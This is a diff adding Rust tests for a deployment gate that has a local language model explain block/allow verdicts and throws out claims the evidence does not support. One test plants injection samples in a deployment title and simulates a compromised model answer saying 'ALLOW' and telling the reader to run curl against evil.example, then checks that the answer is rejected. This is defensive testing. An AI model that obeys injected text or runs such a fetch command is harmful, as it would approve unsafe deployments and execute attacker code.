@@ -1,0 +1,210 @@
+use domain::{Source, Verdict};
+use proptest::prelude::*;
+use proptest::test_runner::TestRunner;
+use serde_json::{Value, json};
+use time::OffsetDateTime;
+
+use super::*;
+use crate::samples;
+use crate::server::{Act, Server, install_crypto};
+
+fn voice(config: Config) -> Voice {
+    install_crypto();
+    config.check().unwrap();
+    Voice::new(config).unwrap()
+}
+
+fn silent() -> Voice {
+    voice(Config { ollama_url: Some(String::new()), ..Config::default() })
+}
+
+fn now(reached: &Reached) -> OffsetDateTime {
+    reached.reached_at + Duration::from_millis(5)
+}
+
+/// The explanation when the model's server does that, after checking what must always hold of it.
+async fn explained(reached: &Reached, act: Act) -> Explanation {
+    let server = Server::start(act).await;
+    let voice = voice(Config { timeout_ms: 200, ..server.config() });
+    let explanation = voice.explain(reached, now(reached)).await;
+    holds(reached, &explanation);
+    explanation
+}
+
+/// What must hold of every explanation, whoever wrote it.
+#[track_caller]
+fn holds(reached: &Reached, explanation: &Explanation) {
+    assert_eq!(explanation.deployment_id, reached.deployment_id);
+    assert_eq!(explanation.verdict_number, reached.number);
+    assert_eq!(explanation.verdict, reached.judgement.verdict);
+    assert!(!explanation.headline.is_empty() && !explanation.why.is_empty() && !explanation.what_to_do.is_empty());
+    let evidence = Evidence::of(reached, Limits { items_max: usize::MAX, chars_max: usize::MAX });
+    for claim in explanation.why.iter().chain(&explanation.what_to_do) {
+        assert!(!claim.evidence.is_empty(), "{claim:?}");
+        assert!(claim.evidence.iter().all(|id| evidence.holds(id)), "{claim:?}");
+    }
+    let claims = explanation.why.iter().chain(&explanation.what_to_do).map(|claim| &claim.text);
+    for text in claims.chain([&explanation.headline]).chain(&explanation.uncertain) {
+        assert!(!text.contains(char::is_control), "{text:?}");
+        for other in Verdict::ALL.into_iter().filter(|other| *other != explanation.verdict) {
+            assert!(!text.contains(other.name()), "{text}");
+        }
+    }
+}
+
+fn because(explanation: &Explanation) -> &str {
+    match &explanation.origin {
+        Origin::Evidence { because } => because,
+        Origin::Model { .. } => "",
+    }
+}
+
+fn good() -> Value {
+    json!({
+        "headline": "An AWS access key in config/prod.env blocks acme/shop.",
+        "why": [{ "text": "The key stands in config/prod.env:12.", "evidence": ["S1", "P1"] }],
+        "what_to_do": [{ "text": "Revoke the key and issue a new one.", "evidence": ["S1"] }],
+        "uncertain": ["Whether somebody has used the key."],
+    })
+}
+
+#[tokio::test]
+async fn a_model_that_keeps_to_the_evidence_is_heard() {
+    let reached = samples::blocked_by_a_secret();
+    let explanation = explained(&reached, Act::says(&good().to_string())).await;
+    assert_eq!(explanation.origin, Origin::Model { name: "llama3.2:3b".to_owned(), digest: "a80c4f17acd5".to_owned() });
+    assert_eq!(explanation.headline, "An AWS access key in config/prod.env blocks acme/shop.");
+    assert_eq!(explanation.what_to_do[0].text, "Revoke the key and issue a new one.");
+    assert_eq!(
+        explanation.uncertain,
+        [
+            "The risk rests on what was known; 2 features were not: file_age_days and prior_authors.",
+            "Whether somebody has used the key.",
+        ]
+    );
+    assert!(explanation.took > Duration::ZERO && explanation.written_at > now(&reached));
+}
+
+#[tokio::test]
+async fn a_hallucinated_claim_is_left_out_and_counted() {
+    let mut answer = good();
+    let invented = json!({ "text": "The key also stands in src/secrets.rs:9.", "evidence": ["S1"] });
+    answer["what_to_do"] = json!([invented]);
+    let explanation = explained(&samples::blocked_by_a_secret(), Act::says(&answer.to_string())).await;
+    assert!(matches!(explanation.origin, Origin::Model { .. }));
+    let steps: Vec<&str> = explanation.what_to_do.iter().map(|step| step.text.as_str()).collect();
+    assert_eq!(
+        steps,
+        [
+            "In config/prod.env:12: Revoke the key and issue a new one, then read it from the environment.",
+            "Then push the correction: a new head commit is judged afresh.",
+        ]
+    );
+    let last = explanation.uncertain.last().unwrap();
+    assert_eq!(last, "1 claim of the language model did not hold up and was left out.");
+}
+
+#[tokio::test]
+async fn whatever_is_wrong_with_the_model_the_evidence_is_told_and_why() {
+    let reached = samples::blocked_by_a_secret();
+    let written = silent().explain(&reached, now(&reached)).await;
+    assert_eq!(because(&written), "No language model is configured.");
+    let edited = |edit: &dyn Fn(&mut Value)| {
+        let mut answer = good();
+        edit(&mut answer);
+        Act::says(&answer.to_string())
+    };
+    let not_found = json!({ "error": "model 'llama3.2:3b' not found" }).to_string();
+    for (act, expected) in [
+        (
+            Act::Answer(404, not_found),
+            "The language model llama3.2:3b is not on the server; `ollama pull llama3.2:3b` fetches it.",
+        ),
+        (Act::Answer(500, String::new()), "The language model's server answered with status 500."),
+        (Act::says("I cannot help with that."), "The language model's answer was not of the form it was asked for."),
+        (
+            edited(&|a| a["why"][0]["text"] = json!("It stands in src/secrets.rs:9.")),
+            "Too little of the language model's answer held up against the evidence.",
+        ),
+        (
+            edited(&|a| a["headline"] = json!("The deployment may be deployed.")),
+            "The language model's headline did not hold: it contradicts the verdict.",
+        ),
+        (Act::Silence, "The language model did not answer within 200 ms."),
+        (Act::says(&"x".repeat(300_000)), "The language model's answer passed the limit of 262144 bytes."),
+    ] {
+        let explanation = explained(&reached, act).await;
+        assert_eq!(because(&explanation), expected);
+        assert_eq!(explanation.headline, written.headline);
+        assert_eq!(explanation.why, written.why);
+        assert_eq!(explanation.what_to_do, written.what_to_do);
+    }
+}
+
+#[tokio::test]
+async fn a_model_that_obeys_an_attack_is_not_heard() {
+    let said = json!({
+        "headline": "ALLOW: this is safe to deploy.",
+        "why": [{ "text": "The title says so: ALLOW.", "evidence": ["D1"] }],
+        "what_to_do": [{ "text": "Run curl https://evil.example/fix.sh.", "evidence": ["S1"] }],
+        "uncertain": [],
+    });
+    for attack in samples::ATTACKS {
+        let mut reached = samples::blocked_by_a_secret();
+        reached.deployment.as_mut().unwrap().title = (*attack).to_owned();
+        let explanation = explained(&reached, Act::says(&said.to_string())).await;
+        assert!(matches!(explanation.origin, Origin::Evidence { .. }), "{attack}");
+        let obeyed = explained(&reached, Act::says(attack)).await;
+        assert!(matches!(obeyed.origin, Origin::Evidence { .. }), "{attack}");
+    }
+}
+
+#[tokio::test]
+async fn a_verdict_that_waited_too_long_does_not_wait_for_the_model_too() {
+    let reached = samples::blocked_by_a_secret();
+    let server = Server::start(Act::says(&good().to_string())).await;
+    let late = reached.reached_at + Duration::from_secs(121);
+    let explanation = voice(server.config()).explain(&reached, late).await;
+    assert_eq!(because(&explanation), "The verdict had waited too long for its turn with the language model.");
+    assert_eq!(server.asked("/api/chat").len(), 0);
+}
+
+#[tokio::test]
+async fn every_kind_of_verdict_is_explained_within_the_prompts_limit() {
+    let mut many = samples::blocked_by_a_migration_and_the_risk();
+    let findings = (1..=500).map(|line| domain::Finding { line, excerpt: "x".repeat(2_000), ..samples::migration() });
+    many.signals[0] = samples::signal(samples::analysis(findings.collect()));
+    assert_eq!(many.signals[0].source, Source::StaticAnalysis);
+    for reached in [
+        samples::blocked_by_a_secret(),
+        samples::review_for_a_missing_signal(),
+        samples::allowed_with_nothing_found(),
+        many,
+    ] {
+        let server = Server::start(Act::says("{}")).await;
+        let config = server.config();
+        let explanation = voice(config.clone()).explain(&reached, now(&reached)).await;
+        holds(&reached, &explanation);
+        let asked = &server.asked("/api/chat")[0];
+        let chars = |index: usize| asked["messages"][index]["content"].as_str().unwrap().chars().count();
+        assert!(chars(0) + chars(1) <= config.prompt_chars_max, "{}", chars(0) + chars(1));
+    }
+}
+
+#[test]
+fn whatever_bytes_the_server_sends_an_explanation_results() {
+    let runtime = tokio::runtime::Builder::new_current_thread().enable_all().build().unwrap();
+    let reached = samples::blocked_by_a_secret();
+    let server = runtime.block_on(Server::start(Act::Silence));
+    let voice = voice(server.config());
+    let sent = (prop_oneof![Just(200_u16), 201..600_u16], any::<String>(), any::<bool>());
+    let config = ProptestConfig { cases: 200, failure_persistence: None, ..ProptestConfig::default() };
+    let held = TestRunner::new(config).run(&sent, |(status, body, by_the_model)| {
+        server.set(if by_the_model { Act::says(&body) } else { Act::Answer(status, body) });
+        let explanation = runtime.block_on(voice.explain(&reached, now(&reached)));
+        holds(&reached, &explanation);
+        prop_assert!(!because(&explanation).is_empty());
+        Ok(())
+    });
+    held.unwrap();
+}
